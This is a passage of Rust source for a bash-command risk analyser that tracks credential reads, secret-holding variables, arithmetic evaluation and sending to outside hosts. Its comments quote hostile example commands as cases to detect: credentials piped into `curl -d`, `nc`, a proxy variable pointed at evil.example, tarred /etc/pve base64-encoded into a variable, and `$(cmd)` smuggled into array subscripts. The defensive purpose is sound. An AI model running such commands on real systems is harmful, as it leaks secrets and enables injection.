                .filter_map(|r| match r {
                    IoRedirect::File(_, kind, IoFileRedirectTarget::Filename(w))
                        if !matches!(kind, IoFileRedirectKind::Read) =>
                    {
                        Some(w.value.as_str())
                    }
                    _ => None,
                })
                .chain(written_operands(argv).filter(|_| {
                    base.class != RiskClass::ReadOnly && !rules::reads_its_operands(argv)
                }))
                .collect();
        let program = argv
            .first()
            .and_then(Arg::literal)
            .map(|p| p.rsplit('/').next().unwrap_or(p));
        rules::ifupdown_hook(shown, program, &written, &self.folders)
    }

    /// Analyses a word: walks the commands it substitutes, returns its value.
    pub(crate) fn arg(&mut self, word: &ast::Word, depth: usize) -> Arg {
        let analysed = words::analyse(&word.value);
        for nested in &analysed.substitutions {
            self.script(nested, depth + 1);
        }
        // (Only arithmetic: `${!x}`, `${s:$o}` evaluate otherwise.)
        if let Some(expansion) = self.evaluated(&word.value, analysed.evaluates.clone())
            && !(expansion.starts_with("$((") && self.names_numbers(&expansion))
        {
            let v = self.evaluation(&expansion, &[]);
            self.push(expansion, v);
        }
        // `~-` is `$OLDPWD` and `~N`, `~+N`, `~-N` the folder stack's: the
        // session's before this command moved, or what it set (review 46).
        if names_old_folder(&word.value) {
            self.folders.enter(None);
        }
        let before = self.segments.len();
        self.expansion_effects(&word.value, &analysed.assigns);
        self.environment_reads(&analysed.expands, &word.value);
        self.credential_reads
            .extend((before..self.segments.len()).map(|at| (at, depth)));
        self.bound.extend(analysed.assigns.iter().cloned());
        // `$vm`, `"$f"`, `192.168.1.$i` of a loop over known plain values:
        // the word with the value in place.
        if analysed.arg.is_dynamic()
            && let Some(arg) = self.with_loop_values(&word.value)
        {
            return arg;
        }
        let mut arg = analysed.arg;
        // (A number is split too, where the command sets IFS to digits.)
        if analysed.splitting.by_ifs && self.may_hold_blank("IFS") {
            arg.kind = words::ArgKind::Split;
        }
        if arg.kind == words::ArgKind::Dynamic
            && analysed
                .splitting
                .names
                .iter()
                // (IFS itself holds blanks unless set otherwise: an
                // unquoted `$IFS` splits; review 105.)
                .any(|n| n == "IFS" || self.may_hold_blank(n))
        {
            arg.kind = words::ArgKind::Split;
        }
        arg
    }

    /// Arithmetic that sets a variable which changes what runs or how
    /// words split (`(( IFS=1 ))`, `(( PATH=0 ))`; review 85).
    fn arithmetic_sets(&mut self, expr: &str) -> Verdict {
        let names = words::arithmetic_assigned(expr);
        if names.iter().any(|n| rules::moves_folders(n)) {
            self.folders.enter(None);
        }
        match names.iter().find(|n| rules::steers(n)) {
            Some(name) => Verdict::destructive(format!(
                "sets {name} in arithmetic, which changes what runs or how words split"
            )),
            None => Verdict::read_only("sets no variable that steers"),
        }
    }

    /// What a word's expansions do besides giving its value: `${IFS=x}`
    /// sets a variable that steers bash; `$DB_PASSWORD` (or a variable set
    /// from one) puts a credential into a command line, where a program,
    /// an error message or `set -x` may print it.
    fn expansion_effects(&mut self, raw: &str, assigns: &[String]) {
        for name in assigns {
            if rules::moves_folders(name) {
                self.folders.enter(None);
            }
            if rules::steers(name) {
                self.push(
                    format!("${{{name}=…}}"),
                    Verdict::destructive(format!(
                        "sets {name} in an expansion, which changes what runs or how words split"
                    )),
                );
            }
        }
        let credential = rules::expanded_names(raw)
            .into_iter()
            .find(|n| rules::credential_name(n) || self.tainted.iter().any(|t| t == n))
            .map(str::to_string);
        if let Some(name) = credential {
            self.push(
                raw.to_string(),
                rules::reads_secret(&format!("the variable {name} (a credential)")),
            );
        }
    }

    /// `$NAME` of a variable nothing in the command set before it: its value
    /// is the environment's, where credentials are kept under names no list
    /// knows (`$PVE_TICKET`, `$HASS_LLAT`). Asked, unless bash or the login
    /// sets it to plain facts ([`rules::plain_environment`]).
    fn environment_reads(&mut self, names: &[String], raw: &str) {
        let inherited = names.iter().find(|n| {
            n.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && (!self.bound.contains(n) || self.readonly.contains(n))
                && !rules::plain_environment(n)
        });
        if let Some(name) = inherited {
            let v = Verdict::mutation(format!(
                "reads the variable {name}, which nothing in the command sets: its value is the \
                 environment's, where credentials are kept, and would reach the model and the room"
            ));
            self.push(raw.to_string(), v);
        }
    }

    /// Whether a command's words (their segments since `from`) hold a
    /// secret: a word that substitutes a secret read, or uses a variable
    /// set to one (`curl -d "$x" URL` after `x=$(cat KEY)`); or a secret
    /// in the command's own environment (`X=$(cat KEY) curl …`). (What a
    /// command not proven read-only printed may be a secret too:
    /// `--data-binary "$(vtysh -c 'show run')"`; blind corpus 69.)
    fn words_secret(&self, from: usize, argv: &[Arg]) -> bool {
        self.segments[from..].iter().any(|s| {
            s.output == Output::Secret
                || (s.class > RiskClass::ReadOnly && s.output == Output::Unproven)
        }) || argv.iter().any(|a| self.mentions_secret_var(a.raw()))
    }

    /// Takes back what the words `argv` said of credentials since segment
    /// `from`, for the words that only authenticate a read
    /// ([`rules::authenticating_words`]: `curl -H "X-Api-Key: $KEY"` to a
    /// path its service documents as a read).
    fn forget_authenticating_reads(&mut self, argv: &[Arg], from: usize, depth: usize) {
        let words: Vec<&str> = rules::authenticating_words(argv)
            .into_iter()
            .map(Arg::raw)
            .collect();
        // (Only toward a place the command may send to: a credential sent
        // outside stays a secret sent out. Nor where bash may trace the
        // expanded words; review 105.)
        let args = argv.get(1..).unwrap_or_default();
        let program = argv.first().and_then(Arg::literal).unwrap_or_default();
        if words.is_empty()
            || self.may_trace
            || egress::outside(
                &self.egress,
                program,
                &tables::operands(program, args),
                args,
            )
            .is_some()
        {
            return;
        }
        // (The command's own words only, not a nested command's of the
        // same text: `$(echo "X-Api-Key: $KEY" >&2)`; review 105.)
        let forgotten: Vec<usize> = self
            .credential_reads
            .iter()
            .filter(|&&(i, at)| {
                i >= from && at == depth && words.contains(&self.segments[i].command.as_str())
            })
            .map(|&(i, _)| i)
            .collect();
        let mut at = 0;
        self.segments.retain(|_| {
            at += 1;
            !forgotten.contains(&(at - 1))
        });
        self.credential_reads.retain(|&(i, _)| i < from);
    }

    /// The variables a builtin sets (`read x y`, `mapfile -t a`, `printf
    /// -v x`, `getopts o x`, `export x=1`, `let x=1`), from its literal
    /// words: bound from here on ([`Walker::bound`]).
    fn bind_set_by(&mut self, argv: &[Arg], redirects: &[&IoRedirect]) {
        let mut words: Vec<&str> = argv.iter().map_while(Arg::literal).collect();
        let whole = words.len() == argv.len();
        // `builtin read x`, `command read x`: the builtin itself.
        words.drain(..words::builtin_start(&words));
        // (`local` outside a function fails: "can only be used in a
        // function"; review 102.)
        if words.first() == Some(&"local") && self.calling.is_empty() {
            return;
        }
        // A name only known at run time binds nothing known; printf's
        // arguments after its format are no names, and its format must
        // be in the literal words (`printf -v ts '%s' "$(date +%s)"`;
        // review 93).
        if !whole && words.first() != Some(&"printf") {
            return;
        }
        // (Set from any input, a steering variable steers: `read
        // https_proxy < FILE`; review 89.)
        if let Some(name) = words::set_by_builtin(&words)
            .into_iter()
            .find(|n| rules::STEERING_ENVIRONMENT.contains(n))
        {
            self.steered = Some(name.to_string());
        }
        // A redirection that fails stops the builtin before it sets
        // anything (`read x <<< y </missing`, `let x=1 >&9`): only text
        // given as input (`<<<`, a here-document) cannot fail.
        // (Nor a kernel's file under /proc, which every Linux host has:
        // `read -r l1 l5 l15 _ < /proc/loadavg`; blind corpus 50.)
        let from_text_only = redirects.iter().all(|r| match r {
            IoRedirect::HereString(..) | IoRedirect::HereDocument(..) => true,
            // (Nor a process substitution's pipe: `mapfile -t ids <
            // <(qm list)`; review 93.)
            IoRedirect::File(
                None | Some(0),
                IoFileRedirectKind::Read,
                IoFileRedirectTarget::ProcessSubstitution(ProcessSubstitutionKind::Read, _),
            ) => true,
            IoRedirect::File(
                None | Some(0),
                IoFileRedirectKind::Read,
                IoFileRedirectTarget::Filename(w),
            ) => {
                let path = w.to_string();
                [
                    "/proc/loadavg",
                    "/proc/uptime",
                    "/proc/meminfo",
                    "/proc/stat",
                    "/proc/version",
                    "/proc/cpuinfo",
                ]
                .contains(&path.as_str())
            }
            _ => false,
        });
        if !from_text_only {
            return;
        }
        // `read` and `mapfile` set nothing when there is nothing to read:
        // their names count in the loop they are the condition of, or
        // read from text.
        let reads = matches!(words.first(), Some(&("read" | "mapfile" | "readarray")));
        if reads && !self.reading_condition && redirects.is_empty() {
            return;
        }
        let set: Vec<String> = words::set_by_builtin(&words)
            .into_iter()
            .filter(|n| !self.conversion_refused(&words, n))
            .map(str::to_string)
            .collect();
        self.bound.extend(set);
    }

    /// Whether the builtin `words` cannot set `name` as the kind of array
    /// it makes: an indexed array made associative, or one declared
    /// associative made indexed (`declare -a`, `mapfile`, `read -a`),
    /// which bash refuses ("cannot convert"; reviews 103, 104).
    fn conversion_refused(&self, words: &[&str], name: &str) -> bool {
        let flags = |letter: char| {
            matches!(words.first(), Some(&("declare" | "typeset" | "local")))
                && words[1..]
                    .iter()
                    .take_while(|w| w.starts_with('-') && **w != "--")
                    .any(|w| w.contains(letter))
        };
        let arrays = match words.first() {
            Some(&("mapfile" | "readarray")) => true,
            Some(&"read") => words[1..]
                .iter()
                .take_while(|w| w.starts_with('-') && **w != "--")
                .any(|w| w.contains('a')),
            _ => false,
        };
        (flags('A') && self.indexed.iter().any(|r| r == name))
            || ((flags('a') || arrays)
                && self
                    .associative
                    .iter()
                    .chain(&self.declared_associative)
                    .any(|r| r == name))
    }

    /// Whether assigning to `name` evaluates the value as arithmetic:
    /// bash's own integer variables, and those a `declare -i` made.
    pub(crate) fn integer_variable(&self, name: &str) -> bool {
        INTEGER_VARIABLES.contains(&name) || self.integers.iter().any(|n| n == name)
    }

    /// A builtin that reads input into an integer variable (`read OPTIND
    /// <<< TEXT`) evaluates what it reads (review 100): destructive when
    /// the text given holds a command, else only known at run time.
    fn integer_reads(
        &self,
        argv: &[Arg],
        redirects: &[&IoRedirect],
        stdin: &Stdin<'_>,
    ) -> Option<Verdict> {
        let words: Vec<&str> = argv.iter().filter_map(Arg::literal).collect();
        let set = words::may_be_set_by_builtin(&words[words::builtin_start(&words)..]);
        let name = set.iter().find(|n| self.integer_variable(n))?;
        let given = given_text(redirects, stdin, self.outer_input.as_ref());
        Some(if words::may_give_command_text(&given) {
            Verdict::destructive(format!(
                "reads command text into the integer variable {name}, which evaluates it"
            ))
        } else {
            Verdict::mutation(format!(
                "reads into the integer variable {name}, which evaluates what it reads as arithmetic"
            ))
        })
    }

    /// Command text `read` or `mapfile` stores from the text it is given
    /// (`read x <<< 'a[$(cmd)]'`) runs when bash evaluates the name later,
    /// as an assignment's does (review 102).
    fn arm_read(&mut self, argv: &[Arg], redirects: &[&IoRedirect], stdin: &Stdin<'_>) {
        if !words::may_give_command_text(&given_text(redirects, stdin, self.outer_input.as_ref())) {
            return;
        }
        let words: Vec<&str> = argv.iter().filter_map(Arg::literal).collect();
        let set = words::may_be_set_by_builtin(&words[words::builtin_start(&words)..]);
        self.armed.extend(set.into_iter().map(str::to_string));
    }

    /// Command text a `declare`-like builtin stores (`local x='a[$(cmd)]'`)
    /// runs when bash evaluates the name later, as an assignment's does.
    fn arm_stored(&mut self, argv: &[Arg]) {
        let literal: Vec<&str> = argv.iter().map_while(Arg::literal).collect();
        let argv = &argv[words::builtin_start(&literal)..];
        let Some((program, rest)) = argv.split_first() else {
            return;
        };
        if !matches!(
            program.literal(),
            Some("declare" | "typeset" | "local" | "export" | "readonly")
        ) {
            return;
        }
        let flags = || {
            rest.iter()
                .filter_map(Arg::literal)
                .take_while(|w| w.starts_with('-') && *w != "--")
        };
        let integer = flags().any(|w| w.contains('i'));
        // (`declare -a m` with no value makes m indexed: a later
        // `declare -A m` fails; review 101.)
        let indexed = flags().any(|w| w.contains('a'));
        let associative = flags().any(|w| w.contains('A'));
        // (An attribute given to a variable the command never set: a bare
        // `declare -r` then lists it with the environment's value; a
        // readonly one no builtin sets any more; review 102.)
        let attributes = program.literal() == Some("readonly") || flags().next().is_some();
        let readonly = program.literal() == Some("readonly") || flags().any(|w| w.contains('r'));
        let mut names = 0;
        for word in rest.iter().filter_map(Arg::literal) {
            if word.starts_with('-') {
                continue;
            }
            names += 1;
            let name = word.split_once('=').map_or(word, |(n, _)| n);
            let name = name.split('[').next().unwrap_or(name).trim_end_matches('+');
            if attributes
                && !word.contains('=')
                && !self.bound.iter().any(|b| b == name)
                && !rules::plain_environment(name)
            {
                self.attributed.push(name.to_string());
                if readonly {
                    self.readonly.push(name.to_string());
                }
            }
            if integer {
                self.integers.push(name.to_string());
            }
            if indexed {
                self.indexed.push(name.to_string());
            }
            if associative {
                self.declared_associative.push(name.to_string());
            }
            if let Some((_, value)) = word.split_once('=')
                && (value.contains("$(") || value.contains('`'))
            {
                self.armed.push(name.to_string());
            }
        }
        if names == 0
            && rest.len() == flags().count()
            && let Some(name) = self.attributed.first()
        {
            let v = Verdict::mutation(format!(
                "lists the variables with an attribute, {name} among them, whose value is the \
                 environment's, where credentials are kept"
            ));
            self.push(program.raw().to_string(), v);
        }
    }

    /// The whole word a loop's field from a command that prints plain
    /// fields (`for c in $(docker ps -q); do docker logs "$c"`): one word
    /// as that command's output is, never an option; `for_clause`. (One
    /// word, as quoted: a loop gives one field a turn.)
    fn field_word(&self, inner: &str) -> Option<Arg> {
        let name = inner.strip_prefix('$').map(|n| {
            n.strip_prefix('{')
                .and_then(|b| b.strip_suffix('}'))
                .unwrap_or(n)
        })?;
        let (_, fields) = self.field_words.iter().rev().find(|(n, _)| n == name)?;
        Some(Arg::dynamic(format!("\"{fields}\"")))
    }

    /// `raw` with each `$NAME` / `${NAME}` of a known loop value replaced,
    /// when those are its only expansions (quotes around it aside).
    /// The value of a loop's name an expansion reads (`h`, or `hp%:*`
    /// and `hp#*:`: the known value with the pattern taken off; blind
    /// corpus 171). Not a glob's with a pattern taken off.
    fn loop_value(&self, expansion: &str) -> Option<Arg> {
        let (name, trim) = words::affix_removal(expansion)?;
        let (_, value) = self.loops.iter().rev().find(|(n, _)| n == name)?;
        match trim {
            None => Some(value.clone()),
            Some(_) if value.is_glob() => None,
            Some(removal) => Some(Arg::literal_of(removal.apply(value.literal()?)?)),
        }
    }

    fn with_loop_values(&self, raw: &str) -> Option<Arg> {
        let quoted = raw.strip_prefix('"').and_then(|r| r.strip_suffix('"'));
        // (Quotes around a part only, `@"$ns"`: the same word without
        // them, as long as no value is a glob.)
        let partly_quoted;
        // (Each expansion inside double quotes, and the parts outside them
        // plain text: one word whatever a glob's file name holds,
        // `"$h"/name`; blind corpus 211.)
        let expansions_quoted = quoted.is_none() && every_expansion_quoted(raw);
        let (inner, quoted) = match quoted {
            Some(inner) if !inner.contains('"') => (inner, quoted),
            _ if raw.matches('"').count().is_multiple_of(2) && raw.contains('"') => {
                partly_quoted = raw.replace('"', "");
                (partly_quoted.as_str(), Some(""))
            }
            _ => (raw, quoted),
        };
        // (Inside whole double quotes, glob characters, `'` and `~` are
        // text, and so is a `\` before any character but `$`, `` ` ``,
        // `"`, `\`: `sed "s/^/$h\t/"`; blind corpus 76.)
        let whole_quotes = quoted.is_some_and(|q| !q.is_empty()) && raw.starts_with('"');
        let escape_kept = |at: usize| {
            !matches!(
                inner[at + 1..].chars().next(),
                None | Some('$' | '`' | '"' | '\\' | '\n')
            )
        };
        // (A braced expansion's own pattern is no glob of the word:
        // `${hp%:*}`.)
        let inside_braces = |at: usize| {
            inner[..at]
                .rfind("${")
                .is_some_and(|open| !inner[open..at].contains('}'))
        };
        let special = inner.char_indices().any(|(at, c)| match c {
            '*' | '?' if inside_braces(at) => false,
            '`' | '"' => true,
            '\\' => !(whole_quotes && escape_kept(at)),
            '*' | '?' | '[' | '\'' | '~' => !whole_quotes,
            _ => false,
        });
        if let Some(word) = self.field_word(inner).filter(|_| !special) {
            return Some(word);
        }
        if self.loops.is_empty() || special {
            return None;
        }
        let mut out = String::new();
        let mut glob = false;
        let mut rest = inner;
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let after = &rest[at + 1..];
            let (expansion, tail) = match after.strip_prefix('{') {
                Some(braced) => braced.split_once('}')?,
                None => {
                    let end = after
                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                        .unwrap_or(after.len());
                    (&after[..end], &after[end..])
                }
            };
            let value = self.loop_value(expansion)?;
            // A glob's files, unquoted, split at blanks in their names
            // (`/tmp/x -o /etc/passwd`): known only quoted.
            let shared = value.literal().is_some_and(sources::shared_folder);
            if value.is_glob()
                && (quoted.is_none() && shared || quoted == Some("") && !expansions_quoted)
            {
                return None;
            }
            out.push_str(value.literal()?);
            glob |= value.is_glob();
            rest = tail;
        }
        out.push_str(rest);
        Some(Arg {
            text: out,
            // Quoted, the one file name of this turn of the loop.
            kind: if glob && (quoted.is_some() || expansions_quoted) {
                words::ArgKind::Match
            } else if glob {
                words::ArgKind::Glob
            } else {
                words::ArgKind::Literal
            },
        })
    }

    /// Walks the commands substituted in free text (arithmetic, expanded
    /// heredocs). Returns the strictest of them, or read-only.
    fn word_text(&mut self, text: &str, depth: usize) -> Verdict {
        words::substitutions_in_text(text)
            .iter()
            .map(|nested| self.script(nested, depth + 1))
            .reduce(Verdict::max)
            .unwrap_or_else(|| Verdict::read_only("no substitution"))
    }

    /// Whether `text` uses a variable set to what a secret read printed
    /// (`$x`, `${x}`, `"$x"`).
    fn mentions_secret_var(&self, text: &str) -> bool {
        mentions_any(&self.secret_vars, text)
    }

    /// A simple command's words, redirections and assignments, walking
    /// the commands substituted in them.
    fn gather<'s>(&mut self, simple: &'s SimpleCommand, depth: usize) -> Gathered<'s> {
        let mut argv: Vec<Arg> = Vec::new();
        let mut redirects: Vec<&IoRedirect> = Vec::new();
        let mut prefix_assignments: Vec<(String, Option<String>, Verdict)> = Vec::new();
        let mut sets: Vec<String> = Vec::new();
        let mut secret_sets: Vec<String> = Vec::new();
        let mut private_sets: Vec<String> = Vec::new();
        // Process substitutions among the words: whether each is read.
        let mut substitutions: Vec<bool> = Vec::new();
        let mut finite = 0;
        let items = simple
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .map(Item::Prefix)
            .chain(simple.word_or_name.iter().map(Item::Name))
            .chain(
                simple
                    .suffix
                    .iter()
                    .flat_map(|s| s.0.iter())
                    .map(Item::Suffix),
            );
        for item in items {
            match item {
                Item::Name(word) => argv.push(self.arg(word, depth)),
                Item::Prefix(CommandPrefixOrSuffixItem::AssignmentWord(assignment, _)) => {
                    // `x+=…` keeps what x held, `x[1]=…` its first element.
                    if !assignment.append
                        && let ast::AssignmentName::VariableName(name) = &assignment.name
                    {
                        sets.push(name.clone());
                    }
                    let before = self.segments.len();
                    let assigned = self.assignment(assignment, depth);
                    // Set to what a secret read printed, a copy of such a
                    // variable (`y=$x`), or a secret streamed (`x=$(tar cf
                    // - /etc/pve | base64)`).
                    let text = assignment.to_string();
                    if self.segments[before..]
                        .iter()
                        .any(|s| s.output == Output::Secret)
                        || self.mentions_secret_var(&text)
                        || rules::secrets::streams_secret(
                            &text.replace(['(', ')', '`', '|', ';'], " "),
                            &self.folders,
                        )
                    {
                        secret_sets.push(assigned.0.clone());
                    }
                    // (`x=$(cat F)`, `x=$(<F)`, `y=$x` of such a variable.)
                    let printed = text
                        .replace("$(<", "$(cat <")
                        .replace(['(', ')', '`', ';'], " ");
                    if rules::prints_private_file(&printed)
                        || mentions_any(&self.private_vars, &text)
                    {
                        private_sets.push(assigned.0.clone());
                    }
                    prefix_assignments.push(assigned);
                }
                Item::Prefix(p) | Item::Suffix(p) => match p {
                    CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r),
                    // A brace list of plain words is those words, as bash
                    // makes them before the program runs (`cat
                    // /proc/pressure/{cpu,memory,io}`).
                    CommandPrefixOrSuffixItem::Word(w) => match brace_args(&w.value) {
                        Some(words) => argv.extend(words),
                        None => argv.push(self.arg(w, depth)),
                    },
                    CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                        argv.push(self.arg(w, depth))
                    }
                    CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub) => {
                        self.maybe_list(&sub.list, depth + 1);
                        substitutions.push(jobs::ends_with_its_reader(kind, &sub.list));
                        finite += usize::from(jobs::ends_on_its_own(&sub.list));
                        argv.push(Arg::dynamic("<(…)"));
                    }
                },
            }
        }
        Gathered {
            argv,
            redirects,
            prefix_assignments,
            sets,
            secret_sets,
            private_sets,
            substitutions,
            finite,
        }
    }

    /// Process substitutions a command may leave running after it ends
    /// (`cat <(sleep 9) | head -1`), among its words (`substitutions`:
    /// whether each ends with its reader) and its redirections.
    fn substitutions_left_running(
        &mut self,
        argv: &[Arg],
        redirects: &[&IoRedirect],
        mut substitutions: Vec<bool>,
        mut finite: usize,
        shown: &str,
    ) {
        // (`grep -q x < <(…)`: one given as the input too; review 49. One
        // that ends on its own is never left running, whatever reads it,
        // `read`, `mapfile` or a loop: `mapfile -t ids < <(qm list | awk
        // …)`; review 104.)
        for redirect in redirects {
            if let IoRedirect::File(_, _, IoFileRedirectTarget::ProcessSubstitution(kind, sub)) =
                redirect
            {
                substitutions.push(jobs::ends_with_its_reader(kind, &sub.list));
                finite += usize::from(jobs::ends_on_its_own(&sub.list));
            }
        }
        if finite == substitutions.len() {
            return;
        }
        // (Its output may close first: a pipe to a later command, or a
        // descriptor closed, `>&-`.)
        // (Or a redirection fails first: bash starts the substitution
        // before it opens them, `cat <(sleep 9) < /missing`; review 55.)
        let output_may_close = self.output_piped
            || redirects
                .iter()
                .any(|r| closes_output(r) || redirect_may_fail(r));
        if let Some(v) = jobs::left_running(argv, &substitutions, output_may_close) {
            self.push(shown.to_string(), v);
        }
    }

    /// Judges `argv` given `redirects`, the secrets in its input and
    /// words, and the environment `env` (its prefix assignments), then
    /// restores the walker's own.
    fn invocation_given(
        &mut self,
        argv: &[Arg],
        redirects: &[&IoRedirect],
        secrets: GivenSecrets,
        env: Vec<(String, Option<String>)>,
        stdin: Stdin<'_>,
        depth: usize,
    ) -> Verdict {
        let outer = (self.piped_secret, self.argument_secret, self.piped_private);
        // What a secret read printed, reaching the program through its
        // words or its input (judged by `rules::judge` for senders).
        self.piped_secret = match redirect_stdin(redirects) {
            Some(_) => secrets.input,
            None => self.piped_secret,
        };
        self.piped_private = match redirect_stdin(redirects) {
            Some(Stdin::Unknown) => true,
            Some(_) => false,
            None => self.piped_private,
        };
        self.argument_secret |= secrets.words;
        let outer_env = std::mem::replace(&mut self.prefix_env, env);
        // A program of a script reading the input its runner gave the
        // script (`bash -c perl <<< CODE`, `… | ssh h mysql`): that input,
        // taken while it is judged (review 94). Not where the shell reads
        // its script from that input: what is left of it is the script's.
        // (Or through plain `cat`s reading it: `while read h; do cat | nc
        // $h 6379; done`; review 120.)
        let through_cats = matches!(&stdin, Stdin::Pipe(stages)
            if stages.iter().all(|c| c.to_string().trim() == "cat"));
        let taken = match stdin {
            Stdin::Inherited if !self.script_from_input => self.outer_input.take(),
            Stdin::Pipe(_) if through_cats && !self.script_from_input => self.outer_input.take(),
            _ => None,
        };
        let stdin = match &taken {
            Some(OuterInput::Text(text)) => Stdin::Text(Cow::Owned(text.clone())),
            Some(OuterInput::Unknown) => Stdin::Unknown,
            None => stdin,
        };
        let verdict = self.invocation(argv, stdin, depth);
        if taken.is_some() {
            self.outer_input = taken;
        }
        self.prefix_env = outer_env;
        (self.piped_secret, self.argument_secret, self.piped_private) = outer;
        verdict
    }

    fn simple(&mut self, simple: &SimpleCommand, stdin: Stdin<'_>, depth: usize) {
        let words = 1
            + simple.prefix.as_ref().map_or(0, |p| p.0.len())
            + simple.suffix.as_ref().map_or(0, |s| s.0.len());
        if !self.within_budget(0, words) {
            return;
        }
        let shown = one_line(&simple.to_string());
        let first_segment = self.segments.len();
        let mut side_effects: Vec<Verdict> = Vec::new();
        let Gathered {
            argv,
            redirects,
            prefix_assignments,
            sets,
            secret_sets,
            private_sets,
            substitutions,
            finite,
        } = self.gather(simple, depth);
        self.forget_authenticating_reads(&argv, first_segment, depth);
        self.descriptor_variables(&argv, &redirects);
        self.substitutions_left_running(&argv, &redirects, substitutions, finite, &shown);
        let owned_redirects: Vec<IoRedirect> = redirects.iter().map(|r| (*r).clone()).collect();
        let holds_secret = |s: &Segment| s.output == Output::Secret;
        let words_secret = self.words_secret(first_segment, &argv);
        let after_words = self.segments.len();
        let redirected = counted_input(
            self.redirects(&owned_redirects, depth),
            &owned_redirects,
            &argv,
        );
        // What the command reads on its input, when a redirection gives
        // it: a secret file, or text a secret read printed.
        let input_secret = redirected.output == Output::Secret
            || self.segments[after_words..].iter().any(holds_secret)
            || owned_redirects
                .iter()
                .any(|r| self.mentions_secret_var(&r.to_string()));
        side_effects.push(redirected);
        side_effects.extend(keeps_connection_open(&argv, &owned_redirects));

        // `exec < X` (no command): the shell's own input from now on.
        if exec_without_command(&argv)
            && let Some(given) = redirect_stdin(&redirects)
        {
            side_effects.push(self.input_replaced(&given, depth));
        }
        let stdin = redirect_stdin(&redirects).unwrap_or(stdin);
        // (Only where it can matter: a writer that copies its input.)
        let literal: Vec<&str> = argv.iter().map_while(Arg::literal).collect();
        let fed_nothing = matches!(
            literal.get(words::builtin_start(&literal)),
            Some(&("tee" | "sponge" | "cat"))
        ) && fed_nothing(&stdin);
        // The program's own verdict comes first, so on a tie its reason is
        // the one shown.
        let base = if argv.is_empty() {
            // Assignments alone set the shell's variables (before a
            // command, only that command's environment).
            self.bound.extend(sets);
            self.secret_vars.extend(secret_sets);
            self.private_vars.extend(private_sets);
            side_effects.extend(prefix_assignments.into_iter().map(|(_, _, v)| v));
            Verdict::read_only("only assignments or redirections")
        } else {
            self.bind_set_by(&argv, &redirects);
            side_effects.extend(self.integer_reads(&argv, &redirects, &stdin));
            self.arm_read(&argv, &redirects, &stdin);
            // Before a command, an assignment is its environment.
            let program = match argv.first().and_then(Arg::literal) {
                // `builtin read`, `command read`: the same builtin, run with
                // the prefix as its own environment.
                Some("builtin" | "command") => argv.get(1).and_then(Arg::literal),
                program => program,
            };
            for (name, value, _) in &prefix_assignments {
                side_effects.push(rules::prefix_environment(name, value.as_deref(), program));
            }
            let env = prefix_assignments
                .iter()
                .map(|(name, value, _)| (name.clone(), value.clone()))
                .collect();
            let secrets = GivenSecrets {
                input: input_secret,
                words: words_secret,
            };
            let verdict = match self.function_named(&argv) {
                Some(function) => self.call(&function, &argv, stdin, depth),
                None => self.invocation_given(&argv, &redirects, secrets, env, stdin, depth),
            };
            self.arm_stored(&argv);
            verdict
        };
        side_effects.extend(self.ifupdown_writes(&shown, &argv, &redirects, &base));
        side_effects.extend(truncations(&argv, &redirects, fed_nothing));
        let verdict = side_effects.into_iter().fold(base, Verdict::max);
        self.push(shown, verdict);
    }

    /// Judges an assignment as a statement; returns its name and literal
    /// value too, for when it turns out to be a command's environment.
    fn assignment(
        &mut self,
        assignment: &ast::Assignment,
        depth: usize,
    ) -> (String, Option<String>, Verdict) {
        let name = match &assignment.name {
            ast::AssignmentName::VariableName(n)
                if rules::STEERING_ENVIRONMENT.contains(&n.as_str()) =>
            {
                // (Appended to too: `https_proxy+=@evil.example`; review 89.)
                self.steered = Some(n.clone());
                n
            }
            ast::AssignmentName::VariableName(n) => n,
            ast::AssignmentName::ArrayElementName(n, subscript) => {
                if !self.associative.contains(n) {
                    self.indexed.push(n.clone());
                }
                // bash expands the subscript (arithmetic, for an indexed
                // array): a substitution in it runs (`a[$(cmd)]=1`), and
                // a variable in it is evaluated (`x='b[$(cmd)]'; a[x]=1`).
                // (Its quotes are text to bash, as in double quotes:
                // `a['$(cmd)']=1` runs too; review 85.)
                if subscript.contains("$(") || subscript.contains('`') {
                    self.script(&format!(": {subscript}"), depth + 1);
                    if subscript.contains('\'') {
                        let text = words::quotes_as_text(subscript);
                        self.script(&format!(": {text}"), depth + 1);
                    }
                }
                if !self.associative.contains(n) {
                    self.subscript(subscript);
                }
                n
            }
        };
        // Where `~`, a bare `cd` and a relative `cd` lead is no longer
        // root's home and the named folder.
        if rules::moves_folders(name) {
            self.folders.enter(None);
        }
        let mut value = None;
        match &assignment.value {
            ast::AssignmentValue::Scalar(w) => {
                let from_credential = rules::expanded_names(&w.value)
                    .into_iter()
                    .any(|n| rules::credential_name(n) || self.tainted.iter().any(|t| t == n));
                if from_credential {
                    self.tainted.push(name.clone());
                }
                let arg = self.arg(w, depth);
                value = arg.literal().map(str::to_string);
                // An integer variable (bash's own, `RANDOM`, `OPTIND`, or
                // one a `declare -i` made) evaluates what it is given as
                // arithmetic right away (review 99).
                let integer = self.integer_variable(name);
                if integer
                    && !value
                        .as_deref()
                        .is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit()))
                {
                    let verdict = self.evaluation(&w.value, &[&arg]);
                    self.push(format!("{name}={}", w.value), verdict);
                }
                // Command text kept in a variable runs when bash evaluates
                // it as arithmetic or a name later (`((x))`, `${!x}`).
                if value
                    .as_deref()
                    .is_some_and(|v| v.contains("$(") || v.contains('`'))
                {
                    // Harmless until evaluated: a later `((x))`, `${!x}` or
                    // subscript in the same command is judged destructive.
                    self.armed.push(name.clone());
                }
            }
            ast::AssignmentValue::Array(items) => {
                if !self.associative.contains(name) {
                    self.indexed.push(name.clone());
                }
                for (key, value) in items {
                    if let Some(key) = key {
                        self.arg(key, depth);
                        // `a=([x]=1)`: an indexed array's key is arithmetic.
                        if !self.associative.contains(name) {
                            self.subscript(&key.value);
                        }
                    }
                    let arg = self.arg(value, depth);
                    // (Each element of an integer array is evaluated:
                    // `declare -i a; a=('x[$(cmd)]')`; review 102.)
                    if self.integer_variable(name)
                        && !arg
                            .literal()
                            .is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit()))
                    {
                        let verdict = self.evaluation(&value.value, &[&arg]);
                        self.push(format!("{name}=({})", value.value), verdict);
                    }
                }
            }
        }
        let verdict = rules::assignment(name, value.as_deref());
